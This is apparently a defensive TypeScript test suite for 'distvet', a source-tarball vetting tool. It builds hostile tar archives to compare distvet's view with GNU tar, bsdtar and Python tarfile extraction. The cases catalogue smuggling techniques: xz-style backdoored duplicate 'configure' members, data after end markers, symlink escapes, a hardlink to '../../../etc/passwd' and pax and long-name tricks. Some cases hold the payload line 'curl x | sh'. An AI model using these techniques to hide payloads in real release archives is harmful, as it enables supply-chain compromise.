/**
 * Differential test: distvet's as-extracted view of hostile archives must equal the tree GNU tar
 * (what dpkg-source runs) writes into a temp dir; wherever bsdtar or Python tarfile write
 * something else, distvet must report an ambiguity. Archives are built here, at test time.
 * Every case keeps whatever an extractor might write inside this test's private temp dir:
 * "outside" targets point to a sibling folder of the extraction dir.
 */
import { describe, it, expect } from "vitest";
import { spawnSync } from "node:child_process";
import { lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, writeFileSync, existsSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { readTarball, type ArchiveListing } from "../src/archive/read-tar.js";
import { blobId } from "../src/archive/blob-id.js";
import { header, tarBytes } from "./archive-tar-writer.js";
import { tmp } from "./tmp.js";

const has = (cmd: string, arg = "--version"): boolean => spawnSync(cmd, [arg], { stdio: "ignore" }).status === 0;
const gnuTar = spawnSync("tar", ["--version"], { encoding: "utf8" }).stdout?.includes("GNU tar") ?? false;
const bsdtar = has("bsdtar");
const python = has("python3");

type View = Record<string, string>;

/** What an extractor left on disk: path -> "file <blob>" / "symlink -> target" / "other" (directories omitted). */
function walk(root: string, rel = "", out: View = {}): View {
  if (!existsSync(root)) return out;
  for (const name of readdirSync(join(root, rel)).sort()) {
    const p = rel ? `${rel}/${name}` : name;
    const st = lstatSync(join(root, p));
    if (st.isSymbolicLink()) out[p] = `symlink -> ${readlinkSync(join(root, p))}`;
    else if (st.isDirectory()) walk(root, p, out);
    else if (st.isFile()) out[p] = `file ${blobId(readFileSync(join(root, p)))}`;
    else out[p] = "other";
  }
  return out;
}

function distvetView(l: ArchiveListing): View {
  const out: View = {};
  for (const e of l.entries) {
    if (e.unsafe || e.type === "dir") continue;
    const p = l.root !== undefined ? `${l.root}/${e.path}` : e.path;
    out[p] = e.type === "symlink" ? `symlink -> ${e.linkTarget}` : e.type === "file" ? `file ${e.oid}` : "other";
  }
  return Object.fromEntries(Object.entries(out).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0)));
}

function extract(tool: "gnu" | "bsd" | "py", archive: string, into: string): View {
  mkdirSync(into, { recursive: true });
  if (tool === "gnu") spawnSync("tar", ["-xf", archive, "-C", into, "--no-same-owner", "--no-same-permissions", "--warning=none"], { stdio: "ignore" });
  else if (tool === "bsd") spawnSync("bsdtar", ["-xf", archive, "-C", into], { stdio: "ignore" });
  else
    spawnSync(
      "python3",
      ["-c", "import sys,tarfile\nt=tarfile.open(sys.argv[1])\nt.errorlevel=0\nkw={'filter':'fully_trusted'} if hasattr(tarfile,'fully_trusted_filter') else {}\ntry: t.extractall(sys.argv[2], **kw)\nexcept Exception: pass", archive, into],
      { stdio: "ignore" },
    );
  return walk(into);
}

interface Case {
  name: string;
  build: (outside: string, dir: string) => Buffer;
  ext?: string;
  /** Some extractor must disagree here (so distvet must report it). */
  ambiguous?: RegExp;
  /** GNU tar's own result depends on the file system here; when it differs, this ambiguity must name it. */
  gnuMayDiffer?: RegExp;
}

const P = "pkg-1.0/";
const base = () => tarBytes().dir(P).dir(`${P}src`).file(`${P}src/auth.c`, "int auth(void) { return check(); }\n").file(`${P}configure`, "#!/bin/sh\necho ok\n", 0o755);
const EVIL = "#!/bin/sh\necho ok\nCFLAGS=-DALLOW_ANY=1\n";

const CASES: Case[] = [
  { name: "member after end-of-archive marker is reported (xz-style clean copy after backdoored one)", build: () => base().file(`${P}configure`, EVIL, 0o755).eof().file(`${P}configure`, "#!/bin/sh\necho ok\n", 0o755).eof().bytes(), ambiguous: /after the end-of-archive marker/ },
  { name: "lone zero block then a member", build: () => base().raw(Buffer.alloc(512)).file(`${P}later.c`, "int later;\n").eof().bytes(), ambiguous: /after the end-of-archive marker/ },
  { name: "directory symlink then member through it", build: () => base().symlink(`${P}tools`, "src").file(`${P}tools/auth.c`, "int auth(void) { return 1; }\n").eof().bytes(), ambiguous: /written through a symlink/ },
  { name: "symlink chain then member through it", build: () => base().symlink(`${P}s1`, "s2").symlink(`${P}s2`, "src").file(`${P}s1/auth.c`, "evil\n").eof().bytes(), ambiguous: /written through a symlink/ },
  { name: "directory member replaces a directory symlink", build: () => base().symlink(`${P}tools`, "src").dir(`${P}tools`).file(`${P}tools/auth.c`, "int other;\n").eof().bytes() },
  { name: "directory header with size > 0", build: () => base().dir(`${P}d`, 512).file(`${P}hidden-evil.sh`, "curl x | sh\n", 0o755).eof().bytes(), ambiguous: /directory header declares 512 bytes.*hidden-evil\.sh/ },
  { name: "hardlink header with size > 0", build: () => base().hardlink(`${P}hl`, `${P}configure`, 1024).file(`${P}hidden-evil.sh`, "curl x | sh\n", 0o755).eof().bytes(), ambiguous: /hard link header declares/ },
  { name: "symlink header with size > 0", build: () => base().symlink(`${P}sl`, "configure", 512).file(`${P}hidden-evil.sh`, "curl x | sh\n", 0o755).eof().bytes(), ambiguous: /symlink header declares/ },
  { name: "FIFO header with size > 0", build: () => base().fifo(`${P}ff`, 512).file(`${P}hidden-evil.sh`, "curl x | sh\n", 0o755).eof().bytes(), ambiguous: /FIFO header declares/ },
  { name: "global pax path", build: () => base().pax([["path", `${P}evil-global.sh`]], "g").file(`${P}README`, "readme\n").file(`${P}NEWS`, "news\n").eof().bytes(), ambiguous: /pax global header sets path/ },
  { name: "global pax linkpath", build: () => base().pax([["linkpath", "configure"]], "g").symlink(`${P}s`, "src").eof().bytes(), ambiguous: /pax global header sets linkpath/ },
  { name: "zero-length pax header", build: () => base().pax([]).file(`${P}after-1.txt`, "a".repeat(100)).file(`${P}after-2.txt`, "b".repeat(100)).eof().bytes(), ambiguous: /zero-length pax/ },
  { name: "pax path beats a GNU long name", build: () => base().pax([["path", `${P}from-pax.sh`]]).gnuLongName(`${P}from-longname.txt`).file(`${P}from-header.txt`, "x\n").eof().bytes(), ambiguous: /named twice/ },
  { name: "two GNU long names for one member", build: () => base().gnuLongName(`${P}first-name.sh`).gnuLongName(`${P}second-name.sh`).file(`${P}short.sh`, "curl x | sh\n").eof().bytes(), ambiguous: /give a value twice/ },
  { name: "two pax paths for one member", build: () => base().pax([["path", `${P}first.sh`]]).pax([["path", `${P}second.sh`]]).file(`${P}short.sh`, "curl x | sh\n").eof().bytes(), ambiguous: /give a value twice/ },
  { name: "pax size that differs from the header size", build: () => base().pax([["size", "512"]]).raw(header(`${P}big.txt`, { size: 0 })).raw(Buffer.alloc(512, 0x61)).file(`${P}after.txt`, "after\n").eof().bytes(), ambiguous: /pax record sets its size/ },
  { name: "duplicate member, backdoored copy last", build: () => base().file(`${P}configure`, EVIL, 0o755).eof().bytes(), ambiguous: /more than once with different content/ },
  { name: "duplicate member, backdoored copy first", build: () => base().file(`${P}configure`, EVIL, 0o755).file(`${P}configure`, "#!/bin/sh\necho ok\n", 0o755).eof().bytes(), ambiguous: /more than once/ },
  { name: "hardlink then its target rewritten", build: () => base().hardlink(`${P}notes.txt`, `${P}configure`).file(`${P}configure`, EVIL, 0o755).eof().bytes(), ambiguous: /hard link shared/ },
  { name: "file replaces an in-tree symlink", build: () => base().symlink(`${P}l`, "configure").file(`${P}l`, EVIL).eof().bytes(), ambiguous: /first a symlink/ },
  { name: "symlink escape hidden by a later same-named member", build: (out) => base().symlink(`${P}lnk`, out).file(`${P}lnk/payload.txt`, "payload\n").file(`${P}lnk`, "now a file\n").eof().bytes(), ambiguous: /first a symlink to .* \(outside the tree\)/, gnuMayDiffer: /may still create the symlink/ },
  { name: "member written through an escaping symlink", build: (out) => base().symlink(`${P}link`, out).file(`${P}link/evil`, "evil\n").eof().bytes(), ambiguous: /creates such links last/ },
  { name: "hardlink target ../../../etc/passwd", build: () => base().hardlink(`${P}hl-up`, "../../../etc/passwd").eof().bytes(), ambiguous: /hard link to '\.\.\/\.\.\/\.\.\/etc\/passwd', outside the tree/ },
  { name: "hardlink through a directory symlink", build: () => base().symlink(`${P}t`, "src").hardlink(`${P}h`, `${P}t/auth.c`).eof().bytes() },
  { name: "file inside a file is not extracted", build: () => base().file(`${P}f`, "x\n").file(`${P}f/g`, "y\n").eof().bytes(), ambiguous: /not a directory/ },
  { name: "directory replaces a file", build: () => base().file(`${P}f`, "x\n").dir(`${P}f`).file(`${P}f/g`, "y\n").eof().bytes() },
  { name: "unknown type flag", build: () => base().raw(header(`${P}weird`, { type: "Z", size: 5 })).raw(Buffer.concat([Buffer.from("data\n"), Buffer.alloc(507)])).eof().bytes(), ambiguous: /unknown type flag/ },
  { name: "hardlink to a member that comes later", build: () => base().hardlink(`${P}hl`, `${P}later.txt`).file(`${P}later.txt`, "later\n").eof().bytes(), ambiguous: /no earlier member created/ },
  { name: "regular-file header whose name ends in a slash (a directory for GNU tar) with size > 0", build: () => base().raw(header(`${P}odd/`, { size: 512 })).file(`${P}hidden.sh`, "").eof().bytes(), ambiguous: /declares 512 bytes.*hidden\.sh/ },
  {
    name: "old GNU header with a ustar prefix field",
    build: () => {
      const h = header(`${P}name.c`, { size: 7 });
      h.write("ustar  \0", 257, "latin1");
      h.write("pkg-1.0/src", 345, "latin1");
      h.fill(0x20, 148, 156);
      let sum = 0;
      for (const x of h) sum += x;
      Buffer.from(`${sum.toString(8).padStart(6, "0")}\0 `, "latin1").copy(h, 148);
      return base().raw(h).raw(Buffer.concat([Buffer.from("int n;\n"), Buffer.alloc(505)])).eof().bytes();
    },
    ambiguous: /prefix/,
  },
  ...[["gnu"], ["pax", "1.0"], ["pax", "0.1"]].map(([format, version]) => ({
    name: `sparse member written by GNU tar --sparse --format=${format}${version ? ` --sparse-version=${version}` : ""}`,
    build: (_o: string, dir: string) => {
      const src = join(dir, "src", "pkg-1.0");
      mkdirSync(src, { recursive: true });
      writeFileSync(join(src, "configure"), "#!/bin/sh\necho sparse\n");
      spawnSync("truncate", ["-s", "300K", join(src, "configure")]);
      writeFileSync(join(src, "configure"), "tail\n", { flag: "a" });
      const out = spawnSync("tar", ["--sparse", `--format=${format}`, ...(version ? [`--sparse-version=${version}`] : []), "-C", join(dir, "src"), "-cf", "-", "pkg-1.0"], { maxBuffer: 1 << 24 });
      return out.stdout;
    },
    ambiguous: /sparse member/,
  })),
  { name: "no single top-level directory", build: () => tarBytes().file("a.c", "int a;\n").dir("sub").file("sub/b.c", "int b;\n").eof().bytes() },
  { name: "concatenated gzip members", ext: "tar.gz", build: () => Buffer.concat([base().file(`${P}configure`, EVIL, 0o755).eof().gzip(), tarBytes().file(`${P}configure`, "#!/bin/sh\necho ok\n", 0o755).eof().gzip()]), ambiguous: /after the end-of-archive marker/ },
  { name: "concatenated gzip members without an end marker in the first", ext: "tar.gz", build: () => Buffer.concat([gzipSync(base().bytes()), tarBytes().file(`${P}second.sh`, "echo second\n", 0o755).eof().gzip()]) },
];

describe.skipIf(!gnuTar)("as-extracted view equals what GNU tar writes (bsdtar and Python tarfile differences are reported)", () => {
  for (const c of CASES) {
    it(c.name, async () => {
      const dir = tmp();
      const outside = join(dir, "outside");
      const archive = join(dir, `case.${c.ext ?? "tar"}`);
      writeFileSync(archive, c.build(outside, dir));
      const listing = await readTarball(archive);
      const mine = distvetView(listing);
      const gnu = extract("gnu", archive, join(dir, "gnu"));
      const whats = listing.ambiguities.map((a) => a.what).join("\n");
      if (c.gnuMayDiffer && JSON.stringify(gnu) !== JSON.stringify(mine)) expect(whats).toMatch(c.gnuMayDiffer);
      else expect(mine, "distvet's tree differs from GNU tar's").toEqual(gnu);
      const others: [string, View][] = [];
      if (bsdtar) others.push(["bsdtar", extract("bsd", archive, join(dir, "bsd"))]);
      if (python) others.push(["python", extract("py", archive, join(dir, "py"))]);
      if (c.ambiguous) expect(whats).toMatch(c.ambiguous);
      for (const [tool, view] of others) {
        if (JSON.stringify(view) !== JSON.stringify(mine)) {
          expect(listing.ambiguities.length, `${tool} extracts something else, and no ambiguity is reported: ${JSON.stringify(view)} vs ${JSON.stringify(mine)}`).toBeGreaterThan(0);
        }
      }
      // An extractor that wrote through a link to the "outside" folder must be named in the report.
      if (existsSync(outside)) expect(whats).toMatch(/Python tarfile writes through|Python tarfile may write/);
    });
  }
});
